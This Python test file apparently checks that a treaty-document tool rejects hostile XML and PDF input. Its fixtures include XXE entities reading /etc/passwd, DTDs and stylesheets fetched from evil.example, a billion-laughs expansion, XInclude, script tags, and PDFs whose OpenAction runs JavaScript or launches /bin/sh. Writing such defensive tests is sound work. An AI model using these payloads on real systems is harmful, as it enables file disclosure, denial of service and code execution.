"""What comes from other people's machines is doubted too: the depositary's list, and official documents."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from gloss.cli import main
from gloss.depositary.answers import NoList, SuspectList
from gloss.depositary.looking import look, read_facts
from gloss.model.dates import FactDate
from gloss.model.problem import Refused
from gloss.official_text.formats import kind
from gloss.official_text.reading import sandbox
from tests.built import ROOT
from tests.depositary.lists import HERE, NOW, document
from tests.hostile.payloads import MARKUP

XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
POISONED = (
    XML + '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><Document>&a;</Document>',
    XML + '<!DOCTYPE x [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]><Document/>',
    XML + "<!DOCTYPE x [" + "".join(f"<!ENTITY a{n} '{'&a' + str(n - 1) + ';'}'>" for n in range(1, 12)) + "]><Document>&a11;</Document>",
    XML + '<!DOCTYPE Document PUBLIC "x" "https://evil.example/x.dtd"><Document/>',
    XML + "<Document>" * 100_000,
    XML + "<Document " + " ".join(f"a{n}='x'" for n in range(20_000)) + "/>",
    XML + "<Document>" + "<a/>" * 200_000 + "</Document>",
    XML + '<?xml-stylesheet href="https://evil.example/x.xsl"?><Document/>',
    XML + '<Document xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></Document>',
    XML + "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
    XML + "<Document><![CDATA[" + "x" * 100_000 + "]]></Document>",
    XML + "<Document>&#0;&#xD800;</Document>",
    "<script>alert(1)</script>",
    "\x00" * 1000,
    "",
)  # fmt: skip
DAY = FactDate.parse("2021-03-01").first


@pytest.mark.parametrize("text", POISONED, ids=range(len(POISONED)))
def test_a_poisoned_list_is_refused(text: str) -> None:
    facts = read_facts(HERE / "project")
    with pytest.raises((NoList, SuspectList)) as refused:
        look(text.encode(), facts, DAY, NOW.date(), by_hand=False)
    assert "root:" not in str(refused.value)
    assert len(str(refused.value)) < 500


@pytest.mark.parametrize(
    "text", [one for one in MARKUP if "{" in one], ids=range(sum("{" in one for one in MARKUP))
)
def test_words_beside_the_table_are_words(text: str) -> None:
    """Tags are taken out when the list is read; what is left of markup is doubted."""
    facts = read_facts(HERE / "project")
    said = text.replace("&", "&amp;").replace("<", "&lt;")
    extra = f"<Declarations><Declaration><Participant>Celadon</Participant><Text>Words {said} more.</Text></Declaration></Declarations>"
    with pytest.raises(SuspectList, match="facts are plain text"):
        look(document(extra=extra), facts, DAY, NOW.date(), by_hand=False)


@pytest.mark.parametrize(
    "text", [one for one in MARKUP if "<" in one], ids=range(sum("<" in one for one in MARKUP))
)
def test_tags_beside_the_table_come_to_nothing(text: str) -> None:
    facts = read_facts(HERE / "project")
    said = text.replace("&", "&amp;").replace("<", "&lt;")
    extra = f"<Declarations><Declaration><Participant>Celadon</Participant><Text>Words {said} more.</Text></Declaration></Declarations>"
    try:
        found = look(document(extra=extra), facts, DAY, NOW.date(), by_hand=False)
    except (NoList, SuspectList):
        return
    assert all("<" not in passage.text for passage in found.comparison.texts)


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


PDFS = (
    pdf(b"1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj"),
    pdf(b"1 0 obj << /Type /Catalog /OpenAction << /S /Launch /F (/bin/sh) >> >> endobj"),
    pdf(b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj << /Type /Pages /Kids [2 0 R] /Count 1 >> endobj"),
    pdf(b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj << /Type /Pages /Kids [] /Count 999999999 >> endobj"),
    pdf(b"[" * 50_000),
    pdf(b"<<" * 50_000),
    b"%PDF-1.4\n" + bytes(range(256)) * 40,
    b"%PDF-",
)  # fmt: skip


@pytest.mark.parametrize("raw", PDFS, ids=range(len(PDFS)))
def test_a_poisoned_pdf_is_refused(raw: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = tmp_path / "project"
    (root / "data").mkdir(parents=True)
    (tmp_path / "x.pdf").write_bytes(raw)
    assert kind(raw) == "pdf"
    assert main(["--root", str(root), "text", "import", str(tmp_path / "x.pdf"), "--lang", "en"]) == 1
    said = capsys.readouterr().err
    assert "Traceback" not in said
    assert said.strip()
    assert list((root / "data").rglob("*")) == []


def test_a_pdf_that_leads_in_a_circle_ends_with_its_time(tmp_path: Path) -> None:
    """The library for PDFs would follow it for ever; the process of its own ends after the time that it has."""
    (tmp_path / "x.pdf").write_bytes(pdf(b"1 0 obj 1 0 R endobj"))
    short = "import sys; from gloss.official_text.reading import sandbox; sandbox._SECONDS = 1; sandbox.main(sys.argv[1])"
    reader = subprocess.Popen(
        [sys.executable, "-c", short, str(tmp_path / "x.pdf")],
        env={**os.environ, "PYTHONPATH": str(ROOT / "hooks")}, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
    )  # fmt: skip
    with pytest.raises(Refused, match="more memory or time than a treaty can need"):
        sandbox._gathered(reader, lambda page, pages: None)
    reader.communicate(timeout=30)
    assert reader.returncode < 0
